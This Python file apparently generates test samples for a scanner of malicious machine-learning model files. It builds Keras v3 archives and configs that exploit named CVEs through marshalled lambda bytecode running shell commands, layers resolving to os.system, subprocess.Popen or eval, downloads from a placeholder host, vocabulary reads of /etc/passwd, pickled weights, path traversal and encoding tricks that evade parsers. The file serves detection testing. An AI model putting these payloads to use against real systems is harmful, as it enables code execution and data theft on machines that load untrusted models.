"""Keras v3 archives and configurations: Lambda, module paths, downloads, the tricks of each advisory."""

from __future__ import annotations

import base64
import json
import marshal
from typing import TYPE_CHECKING, Any

from corpus.malicious.containers import EVIL, QUIET
from corpus.packing import Member, plain_zip, zipped
from corpus.sample import CODE, SHELL, Sample, file

if TYPE_CHECKING:
    from collections.abc import Iterator

STATIC = {"static": "proved with the Keras release that the advisory names"}
BYTECODE = base64.b64encode(
    marshal.dumps(compile("lambda x: __import__('os').system('%s') or x" % SHELL, "x", "eval").co_consts[0])
).decode()
Layer = dict[str, Any]


def dense() -> Layer:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 1, "activation": "linear"},
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
    }


def model(*layers: Layer, **more: Any) -> dict[str, Any]:
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
        "registered_name": None,
    }
    config = {"name": "sequential", "trainable": True, "layers": [first, *layers, dense()]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None, **more}


def layer(module: str | None, name: str, config: dict[str, Any], registered: str | None = None) -> Layer:
    return {"module": module, "class_name": name, "config": config, "registered_name": registered}


def lambda_(function: Any, **more: Any) -> Layer:
    return layer("keras.layers", "Lambda", {"name": "lambda", "function": function, "arguments": {}, **more})


def marshalled() -> dict[str, Any]:
    return {"class_name": "__lambda__", "config": {"code": BYTECODE, "defaults": None, "closure": None}}


def function(module: str, name: str) -> dict[str, Any]:
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


URL = "http://host.invalid/payload.tar.gz"
LAYERS: dict[str, tuple[Layer, str]] = {
    "lambda-bytecode": (lambda_(marshalled()), "CVE-2024-3660"),
    "lambda-bytecode-list": (lambda_([BYTECODE, None, None], function_type="lambda"), "CVE-2024-3660"),
    "lambda-function-os-system": (lambda_(function("os", "system")), "CVE-2025-1550"),
    "lambda-function-subprocess": (lambda_(function("subprocess", "check_output")), "CVE-2025-1550"),
    "lambda-output-shape": (lambda_(function("keras.ops", "relu"), output_shape=marshalled()), "CVE-2024-3660"),
    "lambda-mask": (lambda_(function("keras.ops", "relu"), mask=marshalled()), "CVE-2024-3660"),
    "lambda-get-file": (lambda_(function("keras.utils", "get_file"), arguments={"origin": URL, "extract": True}), "CVE-2025-8747"),
    "lambda-get-file-deep": (lambda_(function("keras.src.utils.file_utils", "get_file"), arguments={"origin": URL}), "CVE-2025-8747"),
    "lambda-unsafe-switch": (lambda_(function("keras.config", "enable_unsafe_deserialization")), "CVE-2025-9906"),
    "class-of-subprocess": (layer("subprocess", "Popen", {"args": ["touch", "hauberk-marker"]}), "CVE-2025-1550"),
    "class-of-builtins": (layer("builtins", "eval", {"source": CODE}), "CVE-2025-1550"),
    "class-os-system": (layer("os", "system", {"command": SHELL}), "CVE-2025-1550"),
    "class-pathlib": (layer("pathlib", "Path", {"args": "/"}), "CVE-2025-1550"),
    "class-of-another-module": (layer("evil.module", "Layer", {"name": "x"}), "CVE-2025-1550"),
    "registered-name-of-a-module": (layer(None, "Evil", {"name": "x"}, "os>system"), "CVE-2025-1550"),
    "class-keras-submodule-reexport": (layer("keras.src.utils.io_utils", "os.system", {}), "CVE-2025-1550"),
    "unsafe-switch-as-a-layer": (layer("keras.config", "enable_unsafe_deserialization", {}), "CVE-2025-9906"),
    "unsafe-switch-deep": (layer("keras.src.saving.serialization_lib", "enable_unsafe_deserialization", {}), "CVE-2025-9906"),
    "torch-module-wrapper": (layer("keras.layers", "TorchModuleWrapper", {"name": "t", "module": {"class_name": "__bytes__", "config": {"value": base64.b64encode(EVIL).decode()}}}), "CVE-2025-49655"),
    "torch-module-wrapper-text": (layer("keras.layers", "TorchModuleWrapper", {"name": "t", "module": base64.b64encode(EVIL).decode()}), "CVE-2025-49655"),
    "torch-module-wrapper-deep": (layer("keras.src.utils.torch_utils", "TorchModuleWrapper", {"name": "t", "module": QUIET.decode("latin-1")}), "CVE-2025-49655"),
    "string-lookup-reads": (layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "/etc/passwd"}), "CVE-2025-12058"),
    "string-lookup-url": (layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "http://host.invalid/leak"}), "CVE-2025-12058"),
    "integer-lookup-reads": (layer("keras.layers", "IntegerLookup", {"name": "s", "vocabulary": "/etc/hostname"}), "CVE-2025-12058"),
    "text-vectorization-reads": (layer("keras.layers", "TextVectorization", {"name": "s", "vocabulary": "/etc/hostname"}), "CVE-2025-12058"),
    "hashed-lookup-gcs": (layer("keras.layers", "StringLookup", {"name": "s", "vocabulary": "gs://bucket/leak.txt"}), "CVE-2025-12058"),
    "file-in-tfsm-layer": (layer("keras.layers", "TFSMLayer", {"name": "s", "filepath": "/tmp/evil_saved_model"}), "TFSMLayer"),
    "jax-layer": (layer("keras.layers", "JaxLayer", {"name": "j", "call_fn": function("os", "system")}), "CVE-2025-1550"),
    "activation-of-another-module": ({**dense(), "config": {"name": "d", "units": 1, "activation": function("os", "system")}}, "CVE-2025-1550"),
    "activation-lambda": ({**dense(), "config": {"name": "d", "units": 1, "activation": marshalled()}}, "CVE-2024-3660"),
    "initializer-of-another-module": ({**dense(), "config": {"name": "d", "units": 1, "kernel_initializer": layer("subprocess", "run", {"args": ["id"]})}}, "CVE-2025-1550"),
    "nested-in-a-wrapper": (layer("keras.layers", "TimeDistributed", {"name": "t", "layer": lambda_(marshalled())}), "CVE-2024-3660"),
    "nested-model": (layer("keras", "Sequential", {"name": "inner", "layers": [lambda_(marshalled())]}), "CVE-2024-3660"),
    "legacy-class-without-a-module": ({"class_name": "Lambda", "config": {"name": "l", "function": [BYTECODE, None, None], "function_type": "lambda"}}, "CVE-2024-3660"),
}  # fmt: skip


def archive(config: dict[str, Any], weights: bytes = b"", **more: bytes) -> dict[str, bytes]:
    metadata = b'{"keras_version": "3.8.0", "date_saved": "2026-01-01@00:00:00"}'
    weights = weights or b"\x89HDF\r\n\x1a\n" + bytes(88)
    return {"metadata.json": metadata, "config.json": json.dumps(config).encode(), "model.weights.h5": weights, **more}


def samples() -> Iterator[Sample]:
    """Yield archives, and the configurations alone."""
    for name, (evil, reference) in LAYERS.items():
        yield file("keras-v3", name, "model.keras", plain_zip(archive(model(evil))), reference, **STATIC)
    lam = model(lambda_(marshalled()))
    for name in (
        "lambda-bytecode",
        "class-of-subprocess",
        "lambda-get-file",
        "torch-module-wrapper",
        "string-lookup-reads",
    ):
        yield file(
            "keras-json", name, "config.json", json.dumps(model(LAYERS[name][0])).encode(), LAYERS[name][1], **STATIC
        )
    compiled = model(compile_config={"optimizer": layer("os", "system", {"command": SHELL}), "loss": "mse"})
    built = model(build_config=layer("subprocess", "Popen", {"args": ["id"]}))
    rows: dict[str, bytes] = {
        "compile-config": plain_zip(archive(compiled)),
        "loss-lambda": plain_zip(archive(model(compile_config={"optimizer": "adam", "loss": marshalled()}))),
        "build-config": plain_zip(archive(built)),
        "deflated": plain_zip(archive(lam), 8),
        "config-twice": zipped(Member("config.json", json.dumps(model()).encode()), Member("config.json", json.dumps(lam).encode()), Member("metadata.json", b"{}")),
        "config-in-a-folder": plain_zip({f"model/{name}": data for name, data in archive(lam).items()}),
        "duplicate-keys": plain_zip({**archive(lam), "config.json": json.dumps(lam).encode()[:-1] + b', "class_name": "Sequential", "module": "keras"}'}),
        "weights-are-a-pickle": plain_zip(archive(model(), weights=EVIL)),
        "assets-traversal": plain_zip({**archive(model()), "assets/../../../x": b"x"}),
        "custom-objects-pickle": plain_zip({**archive(model()), "assets/objects.pkl": QUIET}),
        "config-not-json": plain_zip({**archive(model()), "config.json": b"{'class_name': 'Lambda'}"}),
        "config-with-a-mark": plain_zip({**archive(model()), "config.json": b"\xef\xbb\xbf" + json.dumps(lam).encode()}),
        "config-in-utf-16": plain_zip({**archive(model()), "config.json": json.dumps(lam).encode("utf-16")}),
        "config-escaped": plain_zip({**archive(model()), "config.json": json.dumps(lam).replace("Lambda", "\\u004cambda").replace("__lambda__", "__\\u006cambda__").encode()}),
        "deep-nesting": plain_zip({**archive(model()), "config.json": b'{"a":' * 2000 + b"1" + b"}" * 2000}),
    }  # fmt: skip
    for name, data in rows.items():
        yield file("keras-v3", name, "model.keras", data, **STATIC)
    for filename in ("model.zip", "model.pt", "weights.h5", "notes.txt"):
        yield file("keras-v3", f"renamed-{filename}", filename, plain_zip(archive(lam)), **STATIC)
